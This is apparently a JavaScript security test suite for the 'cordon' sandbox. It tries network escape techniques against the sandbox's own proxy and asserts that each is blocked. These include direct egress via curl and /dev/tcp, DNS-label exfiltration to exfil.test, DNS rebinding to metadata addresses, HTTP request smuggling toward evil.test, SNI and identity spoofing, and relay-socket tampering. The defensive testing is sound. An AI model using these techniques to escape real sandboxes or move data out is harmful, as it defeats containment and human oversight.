// Catalog group X (network egress and proxy policy). Every attack runs
// inside a real sandbox against the in-sandbox proxy ports (the launcher's
// relays, 127.0.0.1:3128 HTTP and :1080 SOCKS5). Two set-ups:
//  * cli(): the cordon CLI with --allow-net, the real host proxies and the
//    system resolver (nothing here resolves *.test, so a leaked lookup would
//    show as 502, never as a connection);
//  * fakeNet(): the library's network session (dist/net/session.js) with its
//    test-seam resolver, a fake DNS table with a query log and origins on
//    loopback, driven by the launcher with the same relay flags the library
//    passes. This is what lets X4/X6 prove "no DNS query" and "every answer
//    checked", which the system resolver could not show.
import assert from 'node:assert/strict';
import net from 'node:net';
import { copyFileSync, statSync } from 'node:fs';
import { join, dirname, basename } from 'node:path';
import { fileURLToPath } from 'node:url';
import { randomBytes } from 'node:crypto';
import { tmpdir, networkInterfaces } from 'node:os';
import { LAUNCHER, BASE_MOUNTS, run, tempDir } from '../../helpers.mjs';
import { Sandbox } from '../../../dist/index.js';
import { startNetwork } from '../../../dist/net/session.js';
import { fakeDns, httpOrigin, httpsOrigin, listen } from '../../net/net-helpers.mjs';
import { entry, project, ran, attacks, cordonAsync, PY } from './harness.mjs';

const HERE = dirname(fileURLToPath(import.meta.url));
const RAW = join(HERE, 'raw.py');
const ENETUNREACH = 101, ECONNREFUSED = 111, EPERM = 1;

/** REPLY lines of raw.py -> Buffers. */
function replies(stdout) {
  return [...stdout.matchAll(/^REPLY (\d+) ([0-9a-f]*)$/gm)].map((m) => Buffer.from(m[2], 'hex'));
}
const statusOf = (b) => Number(/^HTTP\/1\.[01] (\d{3})/.exec(b?.toString('latin1') ?? '')?.[1] ?? 0);
const connectReq = (authority, extra = '') => `CONNECT ${authority} HTTP/1.1\\r\\nHost: ${authority}\\r\\n${extra}\\r\\n`;

/** The CLI with ALLOW as --allow-net; runs raw.py ARGS... per invocation. */
async function cli(allow, shellLines) {
  const p = project('cordon-cat-x-');
  copyFileSync(RAW, join(p.W, 'raw.py'));
  try {
    const flags = allow.flatMap((a) => ['--allow-net', a]);
    const r = await cordonAsync([...flags, '--', '/bin/sh', '-c', `${shellLines.join('\n')}\necho CORDON-RAN`], { cwd: p.W, env: p.env });
    ran(assert, r);
    return r;
  } finally {
    p.cleanup();
  }
}
const rawCmd = (...args) => `${PY} raw.py ${args.map((a) => `'${a}'`).join(' ')}`;

/** A session with a fake resolver; run(args) runs raw.py ARGS inside. */
async function fakeNet(network, table, { loopback = false } = {}) {
  const dns = fakeDns(table);
  const t = tempDir('cordon-cat-net-');
  const debug = [];
  const session = await startNetwork({ network, resolver: dns.resolver, allowLoopbackResolution: loopback, debug: (l) => debug.push(l), tmpDir: t.dir });
  const tokens = [];
  const runIn = async (args, { commandId = 'victim', perCommand } = {}) => {
    const token = session.registerCommand(commandId, perCommand);
    tokens.push(token);
    try {
      const r = await run(LAUNCHER, ['run', ...BASE_MOUNTS, '--ro-bind', HERE, HERE, '--unshare-net', '--relay-socket', session.relaySocket, '--relay-token', token,
        '--relay', '3128', '--relay', '1080', '--', PY, RAW, ...args]);
      assert.equal(r.code, 0, r.stderr);
      return r;
    } finally {
      session.unregisterCommand(token);
    }
  };
  return { dns, session, debug, run: runIn, close: async () => { await session.close(); t.cleanup(); } };
}

entry('X1', 'Ignore the proxy; connect directly', async () => {
  const origin = await httpOrigin();
  try {
    const a = attacks();
    const got = a.extra('egress', ['--allow-net', 'allowed.test']);
    assert.equal(got.get('tcp_1.1.1.1_443'), ENETUNREACH);
    assert.equal(got.get('tcp_192.0.2.1_80'), ENETUNREACH);
    const r = await cli(['allowed.test'], [
      `curl -s -m 5 --noproxy '*' -o /dev/null http://127.0.0.1:${origin.port}/direct; echo "curl=$?"`,
      `env -u HTTPS_PROXY -u HTTP_PROXY -u ALL_PROXY -u https_proxy -u http_proxy -u all_proxy curl -s -m 5 -o /dev/null https://1.1.1.1/; echo "curl=$?"`,
      `bash -c 'echo > /dev/tcp/192.0.2.1/80' 2>/dev/null; echo "devtcp=$?"`,
      rawCmd('2606:4700:4700::1111', 443, 'x'),
    ]);
    assert.match(r.stdout, new RegExp(`^CONNECT-ERRNO ${ENETUNREACH}$`, 'm'), 'IPv6 egress');
    // 7: could not connect (refused / unreachable) — the netns has no route out.
    assert.deepEqual([...r.stdout.matchAll(/^curl=(\d+)$/gm)].map((m) => m[1]), ['7', '7']);
    assert.match(r.stdout, /^devtcp=1$/m);
    assert.equal(origin.seen.length, 0);
  } finally {
    await origin.close();
  }
});

entry('X2', 'Host loopback services', async () => {
  const hits = [];
  const servers = [];
  const port = await (async () => {
    const s = net.createServer((c) => { hits.push('127.0.0.1'); c.destroy(); });
    servers.push(s);
    return listen(s, '127.0.0.1');
  })();
  for (const host of ['127.0.0.2', '::1']) {
    const s = net.createServer((c) => { hits.push(host); c.destroy(); });
    servers.push(s);
    try {
      await new Promise((res, rej) => { s.once('error', rej); s.listen(port, host, res); });
    } catch {}
  }
  try {
    const r = await cli(['allowed.test'], [
      ...['127.0.0.1', '127.0.0.2', '::1'].map((h) => rawCmd(h, port, 'x')),
      rawCmd('127.0.0.1', 3128, connectReq(`127.0.0.1:${port}`)),
      rawCmd('127.0.0.1', 3128, connectReq(`localhost:${port}`)),
      rawCmd('127.0.0.1', 3128, `GET http://localhost:${port}/ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n`),
    ]);
    assert.equal((r.stdout.match(new RegExp(`^CONNECT-ERRNO ${ECONNREFUSED}$`, 'gm')) ?? []).length, 3, r.stdout);
    assert.deepEqual(replies(r.stdout).map(statusOf), [403, 403, 403]);
    assert.deepEqual(hits, []);
  } finally {
    for (const s of servers) s.close();
  }
});

entry('X3', 'Non-TCP egress: ICMP, UDP, raw, MPTCP', () => {
  const got = attacks().extra('egress', ['--allow-net', 'allowed.test']);
  assert.equal(got.get('udp_8.8.8.8_53'), ENETUNREACH);
  assert.ok([ENETUNREACH, EPERM].includes(got.get('mptcp_1.1.1.1_443')), `mptcp ${got.get('mptcp_1.1.1.1_443')}`);
  assert.equal(got.get('raw_icmp'), EPERM);
  assert.notEqual(got.get('ping_icmp'), 0);
});

entry('X4', "DNS exfiltration through the proxy's resolver", async () => {
  const data = randomBytes(12).toString('hex');
  const n = await fakeNet({ allowedDomains: ['allowed.test'] }, { 'allowed.test': [['127.0.0.1']], [`${data}.exfil.test`]: [['127.0.0.1']] });
  try {
    const name = `${data}.exfil.test`;
    const socks = Buffer.concat([Buffer.from([5, 1, 0, 3, name.length]), Buffer.from(name), Buffer.from([1, 187])]).toString('hex');
    const r1 = await n.run(['127.0.0.1', '3128', connectReq(`${name}:443`)]);
    const r2 = await n.run(['127.0.0.1', '3128', `GET http://${name}/ HTTP/1.1\\r\\nHost: ${name}\\r\\n\\r\\n`]);
    const r3 = await n.run(['127.0.0.1', '1080', 'h:050100', `h:${socks}`]);
    assert.equal(statusOf(replies(r1.stdout)[0]), 403);
    assert.equal(statusOf(replies(r2.stdout)[0]), 403);
    assert.equal(replies(r3.stdout)[1]?.[1], 0x02, r3.stdout);
    assert.deepEqual(n.dns.log.filter((h) => h.includes('exfil')), [], 'the denied name was looked up');
  } finally {
    await n.close();
  }
});

entry('X5', 'IP literals and alternate encodings', async () => {
  const origin = await httpOrigin();
  try {
    const P = origin.port;
    const spellings = [`127.1:${P}`, `2130706433:${P}`, `0x7f000001:${P}`, `0:${P}`, `[::1]:${P}`, `[::ffff:127.0.0.1]:${P}`, `[fe80::1%25lo]:${P}`, `localhost.:${P}`,
      `127.0.0.1.nip.io:${P}`, '93.184.216.34:443', `0177.0.0.1:${P}`];
    const socks4 = Buffer.concat([Buffer.from([5, 1, 0, 1, 127, 0, 0, 1]), Buffer.from([P >> 8, P & 255])]).toString('hex');
    const socks6 = Buffer.concat([Buffer.from([5, 1, 0, 4]), Buffer.alloc(15), Buffer.from([1, P >> 8, P & 255])]).toString('hex');
    const r = await cli(['allowed.test'], [
      ...spellings.map((s) => rawCmd('127.0.0.1', 3128, connectReq(s))),
      rawCmd('127.0.0.1', 1080, 'h:050100', `h:${socks4}`),
      rawCmd('127.0.0.1', 1080, 'h:050100', `h:${socks6}`),
    ]);
    const rs = replies(r.stdout);
    const http = rs.slice(0, spellings.length).map(statusOf);
    http.forEach((st, i) => assert.ok(st === 403 || st === 400, `${spellings[i]} -> ${st}`));
    assert.equal(rs[spellings.length + 1]?.[1], 0x02, 'SOCKS5 ATYP=1 127.0.0.1');
    assert.equal(rs[spellings.length + 3]?.[1], 0x02, 'SOCKS5 ATYP=4 ::1');
    assert.equal(origin.seen.length, 0);
  } finally {
    await origin.close();
  }
});

entry('X6', 'Allowed name resolves to loopback, private or metadata addresses', async (ctx) => {
  const origin = await httpOrigin();
  // Nothing here may be dialled off this machine: every answer is either a
  // denied class or covered by the listed private ranges.
  // This host's own non-loopback addresses (a listener on 0.0.0.0 answers there).
  const own = Object.values(networkInterfaces()).flat().filter((a) => !a.internal && a.family === 'IPv4').map((a) => a.address);
  const answers = ['127.0.0.1', '169.254.169.254', 'fd00:ec2::254', '10.0.0.1', '::ffff:127.0.0.1', ...own.slice(0, 1)];
  const n = await fakeNet({ allowedDomains: ['rebind.allowed.test', 'mixed.allowed.test'], deniedResolvedAddresses: ['10.0.0.0/8', 'fc00::/7'] }, {
    'rebind.allowed.test': answers.map((a) => [a]),
    'mixed.allowed.test': [['127.0.0.1', '169.254.169.254', '10.1.2.3']],
  });
  try {
    // The name "rebinds" on every query; each connection resolves once and
    // every answer is checked before anything is dialled.
    for (let i = 0; i < answers.length; i++) {
      const r = await n.run(['127.0.0.1', '3128', connectReq(`rebind.allowed.test:${origin.port}`)]);
      assert.equal(statusOf(replies(r.stdout)[0]), 403, `answer ${answers[i]}`);
    }
    const m = await n.run(['127.0.0.1', '3128', `GET http://mixed.allowed.test:${origin.port}/ HTTP/1.1\\r\\nHost: mixed.allowed.test\\r\\n\\r\\n`]);
    assert.equal(statusOf(replies(m.stdout)[0]), 403);
    const socks = Buffer.concat([Buffer.from([5, 1, 0, 3, 19]), Buffer.from('rebind.allowed.test'), Buffer.from([origin.port >> 8, origin.port & 255])]).toString('hex');
    const sr = await n.run(['127.0.0.1', '1080', 'h:050100', `h:${socks}`]);
    assert.equal(replies(sr.stdout)[1]?.[1], 0x02);
    assert.equal(origin.seen.length, 0, 'a request reached the loopback origin');
    assert.equal(n.dns.log.filter((h) => h === 'rebind.allowed.test').length, answers.length + 1, 'one lookup per connection');
    // Private ranges (10/8, 172.16/12, 192.168/16, fc00::/7) are reachable by
    // allowed names unless listed in network.deniedResolvedAddresses, as here.
    ctx.residual('private ranges denied only when listed in deniedResolvedAddresses');
  } finally {
    await n.close();
    await origin.close();
  }
});

entry('X7', 'Host mismatch in plain-HTTP absolute-form; pipelined second request', async () => {
  const origin = await httpOrigin();
  const n = await fakeNet({ allowedDomains: ['allowed.test'] }, { 'allowed.test': [['127.0.0.1']], 'evil.test': [['127.0.0.1']] }, { loopback: true });
  try {
    const P = origin.port;
    const req = `GET http://allowed.test:${P}/first HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\nGET http://evil.test:${P}/second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`;
    const r = await n.run(['127.0.0.1', '3128', req]);
    const text = replies(r.stdout).map((b) => b.toString('latin1')).join('');
    // The first request is routed by its request-target (Host rewritten); the
    // second is decided on its own and refused.
    assert.deepEqual(origin.seen.map((s) => [s.url, s.headers.host]), [['/first', `allowed.test:${P}`]]);
    assert.match(text, /HTTP\/1\.1 200/);
    assert.ok(!origin.seen.some((s) => s.url === '/second'), 'the pipelined request reached the origin');
    // Smuggling variants: a body framed two ways (CL and TE), a bare LF
    // request line. The hidden request must never be dialled as evil.test.
    const smuggle = [
      `POST http://allowed.test:${P}/s1 HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test:${P}/s2 HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
      `GET http://allowed.test:${P}/s3 HTTP/1.1\nHost: allowed.test\n\nGET http://evil.test:${P}/s4 HTTP/1.1\nHost: evil.test\n\n`,
    ];
    for (const req2 of smuggle) await n.run(['127.0.0.1', '3128', req2]);
    assert.ok(!origin.seen.some((s) => s.url === '/s2' || s.url === '/s4'), `smuggled request reached the origin: ${JSON.stringify(origin.seen.map((x) => x.url))}`);
    assert.ok(n.dns.log.every((h) => h === 'allowed.test'), `looked up ${n.dns.log}`);
  } finally {
    await n.close();
    await origin.close();
  }
});

let tlsBox;
async function tlsSetup() {
  const t = tempDir('cordon-cat-tls-');
  const origin = await httpsOrigin(t.dir);
  const n = await fakeNet({ allowedDomains: ['allowed.test'] }, { 'allowed.test': [['127.0.0.1']], 'evil.test': [['127.0.0.1']] }, { loopback: true });
  return { origin, n, close: async () => { await n.close(); await origin.close(); t.cleanup(); } };
}

entry('X8', 'CONNECT host ≠ TLS SNI', async () => {
  const { origin, n, close } = await tlsSetup();
  try {
    const bad = await n.run(['tls', '127.0.0.1', '3128', `allowed.test:${origin.port}`, 'evil.test', 'evil.test']);
    assert.match(bad.stdout, /STATUS HTTP\/1\.1 200/);
    assert.match(bad.stdout, /TLS-ERROR/, 'the mismatching ClientHello was passed on');
    assert.ok(!origin.seen.some((s) => s.sni === 'evil.test'));
    // Tested both ways: the matching SNI works end to end.
    const good = await n.run(['tls', '127.0.0.1', '3128', `allowed.test:${origin.port}`, 'allowed.test', 'allowed.test']);
    assert.match(good.stdout, /TLS-BODY tls ok allowed\.test/);
  } finally {
    await close();
  }
});

entry('X9', 'Domain fronting (SNI allowed, inner Host different)', async (ctx) => {
  const { origin, n, close } = await tlsSetup();
  try {
    // Without TLS interception the proxy cannot see the inner Host: the
    // request reaches the allowed origin. Documented residual risk; the
    // mitigation is allowing exact hosts, not shared CDN fronts.
    const r = await n.run(['tls', '127.0.0.1', '3128', `allowed.test:${origin.port}`, 'allowed.test', 'evil.test']);
    assert.match(r.stdout, /TLS-BODY tls ok allowed\.test/);
    assert.deepEqual(origin.seen.at(-1), { url: '/', host: 'evil.test', sni: 'allowed.test' });
    ctx.residual('inner Host not visible without TLS interception');
  } finally {
    await close();
  }
});

entry('X10', 'SOCKS5 UDP ASSOCIATE / BIND; SOCKS4', async () => {
  const r = await cli(['allowed.test'], [
    rawCmd('127.0.0.1', 1080, 'h:050100', 'h:050300010808080800' + '35'),
    rawCmd('127.0.0.1', 1080, 'h:050100', 'h:05020001080808080035'),
    rawCmd('127.0.0.1', 1080, 'h:0401005d7f00000100'),
  ]);
  const rs = replies(r.stdout);
  assert.equal(rs[1]?.[1], 0x07, 'UDP ASSOCIATE');
  assert.equal(rs[3]?.[1], 0x07, 'BIND');
  // SOCKS4 is refused outright: closed without a grant (0x5a).
  assert.ok(!rs[4] || rs[4].length === 0 || rs[4][1] !== 0x5a, `SOCKS4 granted: ${rs[4]?.toString('hex')}`);
});

entry('X11', 'Name-matching confusions', async () => {
  const origin = await httpOrigin();
  const table = {};
  for (const h of ['allowed.test', 'allowed.test.evil.test', 'evilallowed.test', 'evil.test', 'xn--allwed-bva.test', 'sub.allowed.test']) table[h] = [['127.0.0.1']];
  const n = await fakeNet({ allowedDomains: ['allowed.test'] }, table, { loopback: true });
  try {
    const P = origin.port;
    const bad = [`allowed.test.evil.test:${P}`, `evilallowed.test:${P}`, `allowed.test%00.evil:${P}`, `allowed.test@evil.test:${P}`, `xn--allwed-bva.test:${P}`, `sub.allowed.test:${P}`, `allowed.test\\x00.evil:${P}`];
    for (const a of bad) {
      const r = await n.run(['127.0.0.1', '3128', connectReq(a)]);
      const st = statusOf(replies(r.stdout)[0]);
      assert.ok(st === 403 || st === 400, `${a} -> ${st}`);
    }
    // Controls: case and one trailing dot are the same name.
    for (const a of [`ALLOWED.TEST:${P}`, `allowed.test.:${P}`]) {
      const r = await n.run(['127.0.0.1', '3128', connectReq(a)]);
      assert.equal(statusOf(replies(r.stdout)[0]), 200, a);
    }
    assert.ok(n.dns.log.every((h) => h === 'allowed.test'), `looked up ${n.dns.log}`);
  } finally {
    await n.close();
    await origin.close();
  }
});

entry('X12', 'Allowed host on a non-allowed port', async () => {
  const n = await fakeNet({ allowedDomains: ['allowed.test:443'] }, { 'allowed.test': [['127.0.0.1']] }, { loopback: true });
  try {
    for (const port of [22, 25, 6379]) {
      const r = await n.run(['127.0.0.1', '3128', connectReq(`allowed.test:${port}`)]);
      assert.equal(statusOf(replies(r.stdout)[0]), 403, `port ${port}`);
    }
    for (const port of [0, 65536, -1]) {
      const r = await n.run(['127.0.0.1', '3128', connectReq(`allowed.test:${port}`)]);
      assert.equal(statusOf(replies(r.stdout)[0]), 400, `port ${port}`);
    }
    assert.deepEqual(n.dns.log, []);
  } finally {
    await n.close();
  }
});

entry('X13', 'Relayed CONNECT, proxy chaining, CONNECT to the proxy itself', async () => {
  const origin = await httpOrigin();
  const n = await fakeNet({ allowedDomains: ['allowed.test'] }, { 'allowed.test': [['127.0.0.1']], 'evil.test': [['127.0.0.1']] }, { loopback: true });
  try {
    const P = origin.port;
    // A relay inside forwarding :9999 to the proxy, then CONNECT through it.
    const relayed = await n.run(['127.0.0.1', '3128', connectReq(`evil.test:${P}`)]);
    assert.equal(statusOf(replies(relayed.stdout)[0]), 403);
    for (const a of [`127.0.0.1:3128`, `localhost:1080`, `[::1]:3128`, `${n.session.relaySocket}:1`]) {
      const r = await n.run(['127.0.0.1', '3128', connectReq(a)]);
      const st = statusOf(replies(r.stdout)[0]);
      assert.ok(st === 403 || st === 400, `${a} -> ${st}`);
    }
    // A CONNECT inside an allowed CONNECT tunnel reaches the origin as bytes,
    // not a second proxy hop: the origin answers it as a bad request.
    const nested = await n.run(['127.0.0.1', '3128', connectReq(`allowed.test:${P}`), connectReq(`evil.test:${P}`)]);
    assert.equal(statusOf(replies(nested.stdout)[0]), 200);
    assert.notEqual(statusOf(replies(nested.stdout)[1]), 200);
    assert.ok(!n.dns.log.includes('evil.test'));
  } finally {
    await n.close();
    await origin.close();
  }
  // The in-sandbox relay variant, through the CLI.
  const r = await cli(['allowed.test'], [
    `${PY} raw.py relay 9999 3128 > relay.log & sleep 0.3`,
    rawCmd('127.0.0.1', 9999, connectReq('evil.test:443')),
    'kill $!',
  ]);
  assert.equal(statusOf(replies(r.stdout)[0]), 403, r.stdout);
});

entry('X14', 'Tamper with the relay UDS or its directory', async () => {
  const n = await fakeNet({ allowedDomains: ['allowed.test'] }, {});
  try {
    // Host side: a private 0700 directory with an unpredictable name.
    assert.equal(statSync(n.session.dir).mode & 0o777, 0o700);
    assert.equal(statSync(n.session.relaySocket).mode & 0o777, 0o600);
    assert.match(basename(n.session.dir), /^cordon-net-[A-Za-z0-9]{6,}$/);
    // Inside: neither the socket nor its directory is reachable.
    const r = await run(LAUNCHER, ['run', ...BASE_MOUNTS, '--unshare-net', '--relay-socket', n.session.relaySocket, '--relay', '3128', '--', '/bin/sh', '-c',
      `ls -la ${n.session.dir} 2>/dev/null && echo SAW-dir; [ -e ${n.session.relaySocket} ] && echo SAW-sock; rm ${n.session.relaySocket} 2>/dev/null && echo REMOVED; ln -s /run ${n.session.relaySocket} 2>/dev/null && echo LINKED; find / -xdev -name 'relay.sock' 2>/dev/null | head -3; echo CORDON-RAN`]);
    ran(assert, r);
    assert.doesNotMatch(r.stdout, /SAW-|REMOVED|LINKED|relay\.sock/);
    assert.ok(statSync(n.session.relaySocket).isSocket());
  } finally {
    await n.close();
  }
  // And through the CLI: no cordon-net-* directory is visible inside.
  const c = await cli(['allowed.test'], ['ls -d /tmp/cordon-net-* /run/cordon* 2>/dev/null && echo SAW-session']);
  assert.doesNotMatch(c.stdout, /SAW-session/);
  // When the temp dir itself is a writable root (cwd /tmp, or allowWrite
  // /tmp), the relay sockets of running sessions there must stay read-only:
  // otherwise a command removes or replaces another sandbox's proxy socket.
  const victim = await Sandbox.create({ network: { allowedDomains: ['allowed.test'] } }, { cwd: tmpdir() });
  try {
    const sock = (await victim.startNetwork()).relaySocket;
    assert.ok(statSync(sock).isSocket());
    const r = await cordonAsync(['--', '/bin/sh', '-c', `rm ${sock} 2>/dev/null && echo REMOVED; mv ${dirname(sock)} ${dirname(sock)}.x 2>/dev/null && echo MOVED; echo CORDON-RAN`], { cwd: tmpdir(), env: { PATH: '/usr/bin:/bin', HOME: tmpdir() } });
    ran(assert, r);
    assert.doesNotMatch(r.stdout, /REMOVED|MOVED/, 'a sandboxed command tampered with another session\'s relay socket');
    assert.ok(statSync(sock).isSocket());
  } finally {
    await victim.close();
  }
});

entry('X15', 'Identity spoofing at a shared proxy', async () => {
  const origin = await httpOrigin();
  const n = await fakeNet({ allowedDomains: [] }, { 'allowed.test': [['127.0.0.1']], 'other.test': [['127.0.0.1']] }, { loopback: true });
  try {
    const P = origin.port;
    // Another command of the same session may reach other.test; the victim
    // command may not, whatever it claims.
    const otherToken = n.session.registerCommand('other', { allowedDomains: ['other.test'] });
    const spoof = [
      connectReq(`other.test:${P}`, 'X-Sandbox-Id: other\\r\\nX-Cordon-Command: other\\r\\n'),
      connectReq(`other.test:${P}`, `Proxy-Authorization: Basic ${Buffer.from(`other:${otherToken}`).toString('base64')}\\r\\n`),
      `CORDON1 ${otherToken} 3128\\n${connectReq(`other.test:${P}`)}`,
    ];
    for (const s of spoof) {
      const r = await n.run(['127.0.0.1', '3128', s]);
      const st = statusOf(replies(r.stdout)[0]);
      assert.ok(st === 403 || st === 400 || st === 0, `spoof answered ${st}`);
      assert.notEqual(st, 200);
    }
    assert.equal(origin.seen.length, 0);
    // The token is never in the command's environment.
    const env = await run(LAUNCHER, ['run', ...BASE_MOUNTS, '--unshare-net', '--relay-socket', n.session.relaySocket, '--relay-token', otherToken, '--relay', '3128', '--', '/usr/bin/env']);
    assert.ok(!env.stdout.includes(otherToken));
    n.session.unregisterCommand(otherToken);
  } finally {
    await n.close();
    await origin.close();
  }
});
